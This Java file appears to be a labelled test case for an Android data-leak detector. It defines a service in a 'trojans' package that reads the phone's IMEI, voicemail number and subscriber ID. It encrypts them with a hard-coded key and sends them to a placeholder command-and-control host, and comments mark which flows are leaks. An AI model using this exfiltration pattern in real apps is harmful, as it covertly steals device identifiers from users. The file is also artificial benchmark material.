package trojans;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.util.zip.GZIPOutputStream;
import javax.crypto.Cipher;
import javax.crypto.CipherOutputStream;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/** An address that a constant key opens, and data that the same key closes. */
public class Ciphered extends Service {
    private static final String KEY = "0123456789abcdef";

    public IBinder onBind(Intent intent) {
        return null;
    }

    static byte[] turn(int mode, byte[] bytes) throws Exception {
        Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
        cipher.init(mode, new SecretKeySpec(KEY.getBytes(), "AES"), new IvParameterSpec(KEY.getBytes()));
        return cipher.doFinal(bytes);
    }

    static String close(String text) throws Exception {
        return Base64.encodeToString(turn(Cipher.ENCRYPT_MODE, text.getBytes()), Base64.NO_WRAP);
    }

    static String open(String text) throws Exception {
        return new String(turn(Cipher.DECRYPT_MODE, Base64.decode(text, Base64.DEFAULT)), "UTF-8");
    }

    public void onStart(Intent intent, int number) {
        final TelephonyManager phone = (TelephonyManager) getSystemService("phone");
        new Thread(() -> {
            try {
                form(open("5mgx1Kq0bVw2B0n8w7Z2aA=="), "imei=" + close(phone.getDeviceId()));
                plain(open("5mgx1Kq0bVw2B0n8w7Z2aA=="), "v=" + close("1.0"));
                stream(phone.getVoiceMailNumber());
                half(phone.getSubscriberId());
            } catch (Exception e) {
                stopSelf();
            }
        }).start();
    }

    private void form(String url, String body) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL(url).openConnection();
        DataOutputStream out = new DataOutputStream(c.getOutputStream());
        out.writeBytes(body); // leak encrypt
        out.close();
    }

    private void plain(String url, String body) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL(url).openConnection();
        DataOutputStream out = new DataOutputStream(c.getOutputStream());
        out.writeBytes(body); // no leak
        out.close();
    }

    private void stream(String text) throws Exception {
        Cipher cipher = Cipher.getInstance("RC4");
        cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(KEY.getBytes(), "RC4"));
        ByteArrayOutputStream kept = new ByteArrayOutputStream();
        GZIPOutputStream out = new GZIPOutputStream(new CipherOutputStream(kept, cipher));
        out.write(text.getBytes());
        out.close();
        URL url = new URL("http://c2.example.invalid/?d=" + URLEncoder.encode(Base64.encodeToString(kept.toByteArray(), 8), "UTF-8"));
        InputStream in = url.openStream(); // leak encrypt
        in.close();
    }

    private void half(String imsi) throws Exception {
        String country = imsi.substring(0, 3);
        String fixed = "460".equals(country) ? "cn" : "other";
        new URL("http://c2.example.invalid/?c=" + fixed).openStream(); // no leak
    }
}
